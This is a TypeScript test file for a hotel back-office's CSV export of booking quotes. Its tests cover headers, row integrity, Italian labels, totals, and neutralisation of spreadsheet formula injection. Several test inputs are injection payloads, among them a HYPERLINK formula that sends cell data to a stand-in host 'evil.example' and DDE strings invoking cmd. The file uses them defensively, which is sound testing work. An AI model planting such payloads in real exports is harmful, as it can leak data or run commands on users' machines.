import type { Quote, StayEstimate } from '@ospite/domain';
import { aQuote } from '@ospite/domain/testing';
import { quoteCsv } from './quote-csv';

const ESTIMATE: StayEstimate = { isBinding: false, total: { from: 56_700, to: 60_050 }, lines: [] };

async function csv(...quotes: Quote[]): Promise<string> {
  async function* source() {
    yield* quotes;
  }
  let text = '';
  for await (const line of quoteCsv(source(), ({ preferredRoom }) =>
    preferredRoom === null ? undefined : ESTIMATE,
  ))
    text += line;
  return text;
}

/** Reads RFC 4180 with semicolons, as a spreadsheet would. */
function cells(text: string): string[][] {
  const rows: string[][] = [[]];
  const form = /("(?:[^"]|"")*"|[^;\r\n]*)(;|\r\n)/g;
  for (const [, cell = '', end] of text.slice(1).matchAll(form)) {
    rows.at(-1)?.push(cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell);
    if (end === '\r\n') rows.push([]);
  }
  return rows.filter((row) => row.length > 0);
}

/**
 * The cells as a spreadsheet reads them that splits at commas, as in English: a quote in the middle of a cell is a sign
 * like any other.
 */
function cellsAtCommas(text: string): string[] {
  const form = /(?:"((?:[^"]|"")*)"|)([^,\r\n]*)(?:,|\r\n|\r|\n|$)/g;
  return [...text.slice(1).matchAll(form)].map(
    ([, quoted = '', rest = '']) => quoted.replaceAll('""', '"') + rest,
  );
}

const cellOf = async (changes: Partial<Quote>, column: string) => {
  const [names = [], values = []] = cells(await csv(aQuote(changes)));
  return values[names.indexOf(column)];
};

it('begins with a mark that tells spreadsheets it is UTF-8, and with the names of the columns', async () => {
  const text = await csv();
  expect(text).toMatch(/^\uFEFFNumero;Ricevuta;Stato;Nome;Cognome;Email;/);
  expect(text.endsWith('\r\n')).toBe(true);
});

it('has one line for a quote, whatever was typed into it', async () => {
  const specialRequests = 'due bici; "grandi"\r\ne un cane,\nforse';
  const rows = cells(await csv(aQuote({ specialRequests }), aQuote({ id: 8, phone: null })));
  expect(rows).toHaveLength(5);
  expect(rows[1]).toHaveLength(rows[0]?.length ?? 0);
  expect(rows[1]?.slice(0, 6)).toEqual([
    '7',
    '2026-05-01 10:30',
    'In attesa',
    'Greta',
    'Müller',
    'greta.mueller@example.org',
  ]);
  expect(await cellOf({ specialRequests }, 'Messaggio')).toBe(specialRequests);
  expect(await cellOf({ phone: null }, 'Telefono')).toBe('');
});

it('says everything in the words of the back-office', async () => {
  const changes: Partial<Quote> = {
    status: 'confirmed',
    language: 'de',
    suspected: true,
    exceedsRoomCapacity: true,
    additionalServices: ['taxi', 'wifi'],
    preferredRoom: null,
    preferredRoomName: null,
  };
  for (const [column, words] of [
    ['Stato', 'Confermata'],
    ['Lingua', 'tedesco'],
    ['Servizi', 'Taxi, Wi-Fi gratuito'],
    ['Camera', 'Nessuna preferenza'],
    ['Avvisi', 'Più ospiti che posti letto, Sospetta'],
    ['Stima da (€)', ''],
  ] as const)
    expect(await cellOf(changes, column)).toBe(words);
});

it('adds up nights, guests and estimates in a last line, set apart by an empty one', async () => {
  const rows = cells(await csv(aQuote(), aQuote({ id: 8 }), aQuote({ preferredRoom: null })));
  const [names = []] = rows;
  const lineOf = (row: string[] = []) =>
    ['Numero', 'Ricevuta', 'Notti', 'Ospiti', 'Stima da (€)', 'Stima fino a (€)'].map(
      (name) => row[names.indexOf(name)],
    );
  expect(lineOf(rows[1]).slice(2)).toEqual(['7', '2', '567', '600,50']);
  expect(rows.at(-2)).toEqual(['']);
  expect(lineOf(rows.at(-1))).toEqual(['Totale', '3 richieste', '21', '6', '1134', '1201']);
});

it.each([
  '=1+1',
  '+39 333 1234567',
  '-2+3',
  '@SUM(A1)',
  '=HYPERLINK("http://evil.example?x="&A1;"click")',
  "  =cmd|' /C calc'!A0",
  '\u00A0=1',
  '＝1+1',
])('keeps %j a text in every spreadsheet', async (text) => {
  for (const [field, column] of [
    ['firstName', 'Nome'],
    ['specialRequests', 'Messaggio'],
    ['notes', 'Note'],
    ['phone', 'Telefono'],
  ] as const)
    expect(await cellOf({ [field]: text }, column)).toBe(`'${text}`);
});

it.each([
  "ciao,=cmd|' /C calc'!A0,",
  "ciao\n=cmd|' /C calc'!A0",
  "ciao\r\n\t=cmd|' /C calc'!A0",
  'ciao\r+1',
  'due,  -2+3',
  'due,"=1+1"',
  '"\n"@SUM(A1)',
  'ciao\t=1+1',
  '\t=1+1',
])('keeps %j a text also in a spreadsheet that splits at commas or tabs', async (text) => {
  const read = await csv(aQuote({ specialRequests: text, notes: text }));
  const formulas = [read, read.replaceAll(',', ' ').replaceAll('\t', ',')]
    .flatMap(cellsAtCommas)
    .filter((cell) => /^\s*[=+@-]/.test(cell));
  expect(formulas).toEqual([]);
});

it('leaves ordinary texts as they are', async () => {
  for (const text of ['Greta', 'a=b', '3 notti', 'x-y', "d'Angelo", 'due bici, due caschi\nun cane'])
    expect(await cellOf({ specialRequests: text }, 'Messaggio')).toBe(text);
});

it('says that a reply has not reached its guest, whatever the status', async () => {
  expect(await cellOf({ status: 'answered' }, 'Avvisi')).toBe('');
  expect(await cellOf({ status: 'answered', replyUnsent: true }, 'Avvisi')).toBe('Risposta non inviata');
  expect(await cellOf({ status: 'answered', replyPending: true }, 'Avvisi')).toBe('Risposta in invio');
});
